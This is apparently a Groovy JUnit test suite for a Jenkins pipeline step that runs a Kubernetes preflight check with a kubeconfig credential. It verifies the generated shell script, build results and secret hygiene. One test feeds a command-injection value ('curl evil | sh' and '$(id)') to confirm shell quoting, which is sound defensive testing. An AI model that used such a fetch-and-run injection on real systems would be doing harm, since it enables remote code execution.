package steps

import org.junit.jupiter.api.Test
import pipeline.FakeJenkins
import pipeline.Reports

import static org.junit.jupiter.api.Assertions.*

/** vars/k8sPreflight.groovy with stubbed steps: the script it runs, what it publishes, the result. */
class K8sPreflightStepTest {
    static final String KUBECONFIG_SECRET = 'apiVersion: v1\nusers: [{name: u, user: {token: kubeconfig-secret-7f3a}}]\n'

    FakeJenkins j = Library.jenkins().secretFile('kubeconfig-shop', KUBECONFIG_SECRET)

    Object gate(Map args) {
        return j.run { j.binding.getVariable('k8sPreflight').call(args) }
    }

    @Test
    void runs_exactly_this_script_with_the_kubeconfig_bound_to_KUBECONFIG() {
        Map seen = [:]
        j.shell = { String script, Map env ->
            seen.env = env
            seen.kubeconfig = new File(env.KUBECONFIG).text
            Reports.preflight(j, 0, Reports.HEALTHY).call(script, env)
        }
        gate(credentialsId: 'kubeconfig-shop', namespace: 'shop', release: 'web')

        assertEquals([[kind: 'file', credentialsId: 'kubeconfig-shop', variable: 'KUBECONFIG']], j.callsOf('withCredentials')[0].args)
        assertEquals('''\
rm -f -- preflight.json preflight.stderr preflight-junit.xml
rc=0
preflight check --namespace shop --release web --junit preflight-junit.xml -o json >preflight.json 2>preflight.stderr || rc=$?
cat -- preflight.stderr >&2
exit "$rc"
''', j.callsOf('sh')[0].args.script)
        assertEquals(true, j.callsOf('sh')[0].args.returnStatus)
        // The credential's content was there for the command, in a file outside the workspace...
        assertEquals(KUBECONFIG_SECRET, seen.kubeconfig)
        assertFalse(new File(seen.env.KUBECONFIG).canonicalPath.startsWith(j.workspace.canonicalPath + '/'))
        // ...and is gone afterwards, as is the variable.
        assertFalse(new File(seen.env.KUBECONFIG).exists())
        assertNull(j.env.KUBECONFIG)
    }

    @Test
    void every_option_becomes_its_flag_and_extra_args_come_before_the_output_format() {
        j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
        gate(command: '.preflight/bin/preflight', context: 'prod', namespace: 'shop', release: 'web', manifests: 'rendered.yaml',
             serviceAccount: 'ci/jenkins', ensureToken: true, deep: true, createNamespace: true, strict: true, timeout: '30s',
             helmTimeout: '10m', warnWithin: '60d', failWithin: '14d', args: ['--node', '/etc/kubernetes'],
             markdownFile: 'preflight.md')
        String script = j.callsOf('sh')[0].args.script
        assertEquals('.preflight/bin/preflight check --context prod --namespace shop --release web --manifests rendered.yaml ' +
            '--service-account ci/jenkins --timeout 30s --helm-timeout 10m --warn-within 60d --fail-within 14d ' +
            '--ensure-token --deep --create-namespace --strict --junit preflight-junit.xml --markdown preflight.md ' +
            '--node /etc/kubernetes -o json >preflight.json 2>preflight.stderr || rc=$?', script.readLines()[2])
        assertEquals('rm -f -- preflight.json preflight.stderr preflight-junit.xml preflight.md', script.readLines()[0])
    }

    @Test
    void a_chart_is_rendered_with_its_values_files_and_sets_in_order() {
        j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
        gate(namespace: 'shop', release: 'web', chart: 'charts/web', values: ['prod.yaml', 'eu.yaml'], set: ['image.tag=1.2'])
        assertEquals('preflight check --namespace shop --release web --chart charts/web -f prod.yaml -f eu.yaml ' +
            '--set image.tag=1.2 --junit preflight-junit.xml -o json >preflight.json 2>preflight.stderr || rc=$?',
            j.callsOf('sh')[0].args.script.readLines()[2])
    }

    @Test
    void hostile_values_are_quoted_into_single_words() {
        j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
        gate(namespace: "shop'; curl evil | sh; '", release: 'web $(id)')
        assertTrue(j.callsOf('sh')[0].args.script.contains(
            "--namespace 'shop'\"'\"'; curl evil | sh; '\"'\"'' --release 'web \$(id)'"))
    }

    @Test
    void without_credentialsId_it_uses_the_agents_own_kubeconfig() {
        j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
        gate(namespace: 'shop')
        assertEquals([], j.callsOf('withCredentials'))
        assertNull(j.callsOf('sh')[0].env.KUBECONFIG)
        assertEquals('SUCCESS', j.result)
    }

    @Test
    void ready_is_SUCCESS_publishes_junit_and_returns_the_map() {
        j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
        Object value = gate(credentialsId: 'kubeconfig-shop')
        assertEquals('SUCCESS', j.result)
        assertEquals([[testResults: 'preflight-junit.xml', allowEmptyResults: false]], j.callsOf('junit')*.args)
        assertEquals([ready: true, exitCode: 0, rootCause: null, warnings: [], report: 'preflight.json'], value)
        assertEquals([], j.callsOf('unstable') + j.callsOf('error'))
        assertTrue(j.log.last().endsWith('READY: 3 pass (exit 0)'), j.log.toString())
    }

    @Test
    void warnings_make_the_build_UNSTABLE_and_the_gate_still_passes() {
        j.shell = Reports.preflight(j, 0, Reports.WARNED)
        Object value = gate(credentialsId: 'kubeconfig-shop')
        assertEquals('UNSTABLE', j.result)
        assertEquals(['kube-preflight: ready, with 1 warning: tls.serving-cert: expires in 20 days (fix: kubeadm certs renew apiserver)'],
            j.callsOf('unstable')*.args)
        assertEquals(true, value.ready)
        assertEquals(1, value.warnings.size())
    }

    @Test
    void not_ready_fails_the_stage_with_the_root_cause_line_after_publishing_junit() {
        j.shell = Reports.preflight(j, 1, Reports.BROKEN)
        assertNull(gate(credentialsId: 'kubeconfig-shop'))
        assertEquals('FAILURE', j.result)
        assertEquals('kube-preflight: NOT READY: root cause: controlplane.leases: kube-controller-manager has not renewed its ' +
            'leader lease for 52s: no controllers run (fix: restart kube-controller-manager)', j.failure)
        List<String> order = j.calls*.step.findAll { it in ['sh', 'junit', 'error'] }
        assertEquals(['sh', 'junit', 'error'], order)
        assertTrue(j.log.any { it.contains('FAIL  serviceaccount.token: token Secret ci/jenkins-token is still empty') })
    }

    @Test
    void not_ready_with_failOnNotReady_false_is_UNSTABLE_and_returns_the_root_cause() {
        j.shell = Reports.preflight(j, 1, Reports.BROKEN)
        Object value = gate(credentialsId: 'kubeconfig-shop', failOnNotReady: false)
        assertEquals('UNSTABLE', j.result)
        assertEquals(false, value.ready)
        assertEquals(1, value.exitCode)
        assertTrue(value.rootCause.startsWith('controlplane.leases: '))
    }

    @Test
    void strict_failure_by_warnings_alone_names_the_first_warning() {
        j.shell = Reports.preflight(j, 1, Reports.WARNED, '', true)
        gate(strict: true)
        assertEquals('FAILURE', j.result)
        assertTrue(j.failure.contains('root cause: tls.serving-cert: expires in 20 days'), j.failure)
    }

    @Test
    void exit_2_fails_with_preflights_own_reason_and_publishes_nothing() {
        j.shell = Reports.preflight(j, 2, [], 'preflight: checking context x\npreflight: error: namespace "shop" does not exist (pass --create-namespace)\n')
        gate(credentialsId: 'kubeconfig-shop', namespace: 'shop')
        assertEquals('FAILURE', j.result)
        assertEquals('kube-preflight could not run (exit 2: unusable input or configuration): ' +
            'preflight: error: namespace "shop" does not exist (pass --create-namespace)', j.failure)
        assertEquals([], j.callsOf('junit'))
        assertFalse(j.callsOf('readFile')*.args.contains('preflight.json'))
    }

    @Test
    void a_status_that_is_not_preflights_says_so() {
        j.shell = { String s, Map e -> new File(j.workspace, 'preflight.stderr').text = 'sh: 3: preflight: not found\n'; 127 }
        gate([:])
        assertEquals('FAILURE', j.result)
        assertTrue(j.failure.contains("'preflight' exited 127, which is not a preflight exit code"), j.failure)
        assertTrue(j.failure.endsWith('sh: 3: preflight: not found'), j.failure)
        assertEquals([], j.callsOf('junit'))
    }

    @Test
    void exit_0_without_a_readable_report_is_a_failure_not_a_pass() {
        j.shell = { String s, Map e -> new File(j.workspace, 'preflight-junit.xml').text = Reports.junit(Reports.HEALTHY); 0 }
        gate([:])
        assertEquals('FAILURE', j.result)
        assertEquals('kube-preflight: preflight exited 0 but its JSON report preflight.json is unusable: the file is missing', j.failure)
    }

    @Test
    void a_missing_junit_report_fails_loudly() {
        j.shell = { String s, Map e -> new File(j.workspace, 'preflight.json').text = Reports.json(Reports.HEALTHY); 0 }
        gate([:])
        assertEquals('FAILURE', j.result)
        assertEquals('No test report files were found. Configuration error?', j.failure)
    }

    @Test
    void an_unknown_or_mistyped_parameter_fails_before_anything_runs() {
        gate(namepsace: 'shop')
        assertEquals('FAILURE', j.result)
        assertTrue(j.failure.startsWith('k8sPreflight: unknown parameter namepsace; the parameters are: credentialsId, command,'), j.failure)
        assertEquals([], j.callsOf('sh'))

        FakeJenkins k = Library.jenkins()
        k.run { k.binding.getVariable('k8sPreflight').call(strict: 'yes') }
        assertEquals("k8sPreflight: strict must be true or false, not 'yes'", k.failure)
    }

    @Test
    void an_unknown_credential_fails_like_credentials_binding() {
        gate(credentialsId: 'nope')
        assertEquals("Could not find credentials entry with ID 'nope'", j.failure)
        assertEquals([], j.callsOf('sh'))
    }

    @Test
    void no_secret_reaches_a_script_a_message_or_the_log_and_scripts_are_plain_strings() {
        for (int exit : [0, 1, 2]) {
            FakeJenkins k = Library.jenkins().secretFile('kubeconfig-shop', KUBECONFIG_SECRET)
            List<String> paths = []
            k.shell = { String s, Map e -> paths << e.KUBECONFIG; Reports.preflight(k, exit, Reports.BROKEN).call(s, e) }
            k.run { k.binding.getVariable('k8sPreflight').call(credentialsId: 'kubeconfig-shop', namespace: 'shop') }
            List<String> texts = k.visibleTexts()
            assertFalse(texts.any { it.contains('kubeconfig-secret-7f3a') }, "exit ${exit}: ${texts}")
            // Not even the temporary path is in the script: Groovy interpolated nothing into it.
            assertFalse(k.callsOf('sh').any { it.args.script.contains(paths[0]) })
            k.callsOf('sh').each { assertEquals(String, it.args.script.getClass()) }
        }
    }
}
